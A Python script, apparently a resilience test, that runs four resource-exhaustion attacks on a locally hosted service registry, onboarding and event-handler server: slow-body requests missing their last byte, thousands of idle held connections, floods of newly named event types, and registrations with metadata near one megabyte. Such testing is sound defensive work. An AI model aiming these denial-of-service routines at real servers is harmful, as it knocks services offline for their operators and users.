"""Clients of one address, and in secure mode of one certificate, that use up what a server has.

usage: attack.py KIND OFFSET SECONDS [CERTIFICATES]      KIND: bodies, connections, topics, metadata
"""

import socket
import sys
import time

from clients import Kept, connect, context, until

SOURCE = "127.0.0.2"
BODY_BYTES = 1024 * 1024 - 1
HELD_MAX = 10_000


def statuses(counts):
    return " ".join(f"{status}:{count}" for status, count in sorted(counts.items(), key=str))


def bodies(offset, end, tls):
    """Bodies that lack their last byte, on the registry's port and on the operator's."""
    held, attempts = [], 0
    body = b" " * BODY_BYTES
    for number in until(end):
        port, path = [(8443, "/serviceregistry/register"), (8440, "/api/v1/onboarding")][number % 2]
        head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {BODY_BYTES + 1}\r\n\r\n"
        attempts += 1
        try:
            stream = connect(SOURCE, port + offset, tls)
            held.append(stream)
            stream.sendall(head.encode() + body)
        except OSError:
            pass
        if len(held) > 2000:
            held.pop(0).close()
    return f"{attempts} bodies"


def connections(offset, end, tls):
    """Connections that say nothing, on each port in turn, as many as the process can hold."""
    held, refused = [], 0
    ports = [8443, 8445, 8441, 8455, 8440, 5670]
    for number in until(end):
        try:
            held.append(connect(SOURCE, ports[number % len(ports)] + offset, None, 1))
        except OSError:
            refused += 1
            time.sleep(0.01)
        if len(held) > HELD_MAX:
            held.pop(0).close()
    return f"{len(held)} held, {refused} not connected"


def topics(offset, end, tls):
    """Events of a new event type each."""
    Kept(SOURCE, 8443 + offset, tls).request("POST", "/serviceregistry/register-system", system())
    publisher, counts = Kept(SOURCE, 8455 + offset, tls), {}
    for number in until(end):
        event = {"eventType": f"T{number}" + "y" * 40, "source": system(), "payload": "x"}
        count(counts, publisher, "POST", "/eventhandler/publish", event)
    return statuses(counts)


def metadata(offset, end, tls):
    """Systems with as much metadata as a request can have."""
    registry, counts = Kept(SOURCE, 8443 + offset, tls), {}
    for number in until(end):
        size = [900_000, 15_000][number % 2]
        form = {"systemName": "attacker", "address": SOURCE, "port": 1000 + number % 60_000, "metadata": {"k": "v" * size}}
        count(counts, registry, "POST", "/serviceregistry/register-system", form)
    return statuses(counts)


def system():
    return {"systemName": "attacker", "address": SOURCE, "port": 1}


def count(counts, client, *request):
    try:
        status = client.request(*request)[0]
    except (OSError, socket.timeout) as error:
        status = type(error).__name__
        time.sleep(0.01)
    counts[status] = counts.get(status, 0) + 1


if __name__ == "__main__":
    kind, offset, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    tls = context(sys.argv[4], "attacker") if len(sys.argv) > 4 else None
    attack = {"bodies": bodies, "connections": connections, "topics": topics, "metadata": metadata}[kind]
    print(kind, attack(offset, time.monotonic() + seconds, tls), flush=True)
